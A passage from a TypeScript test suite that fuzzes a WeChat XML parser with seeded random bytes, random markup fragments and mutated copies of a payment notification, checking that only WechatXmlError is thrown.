      for (let i = 0; i < 1500; i++) {
        const len = Math.floor(rand() * 200);
        const bytes = Buffer.alloc(len);
        for (let j = 0; j < len; j++) bytes[j] = Math.floor(rand() * 256);
        check(bytes);
        check(bytes.toString('latin1'));
      }
    });

    it('throws nothing but WechatXmlError for seeded random markup', () => {
      const rand = mulberry32(42);
      const atoms = [ '<', '>', '/', 'xml', 'a', '<xml>', '</xml>', '<a>', '</a>', '<![CDATA[', ']]>', '<!--', '-->', '<?', '?>',
        '&', ';', '&amp;', '&#x41;', '"', "'", '=', ' ', '\n', '1', '测', '\u0000', '!', '[', ']', 'root', '<root>', '</root>' ];
      for (let i = 0; i < 3000; i++) {
        const n = 1 + Math.floor(rand() * 25);
        let body = '';
        for (let j = 0; j < n; j++) body += atoms[Math.floor(rand() * atoms.length)];
        if (rand() < 0.5) body = '<xml>' + body + '</xml>';
        check(body);
        check(body, { root: 'root' });
      }
    });

    it('throws nothing but WechatXmlError for seeded mutations of a real notification', () => {
      const rand = mulberry32(7);
      const base = NOTIFY.replace('<coupon_fee><![CDATA[100]]></coupon_fee>', '');
      for (let i = 0; i < 1500; i++) {
        const chars = [ ...base ];
        const edits = 1 + Math.floor(rand() * 4);
        for (let e = 0; e < edits; e++) {
          const at = Math.floor(rand() * chars.length);
          const op = rand();
          if (op < 0.33) chars.splice(at, 1);
          else if (op < 0.66) chars.splice(at, 0, '<>&/![]?-"\''[Math.floor(rand() * 12)]);
          else chars[at] = String.fromCharCode(Math.floor(rand() * 128));
        }
        check(chars.join(''));
      }
    });

    it('WechatXmlError is a WechatError', () => {
      assert.throws(() => parseXml('<'), (err: unknown) => err instanceof WechatError && err.name === 'WechatXmlError');
    });
  });
});
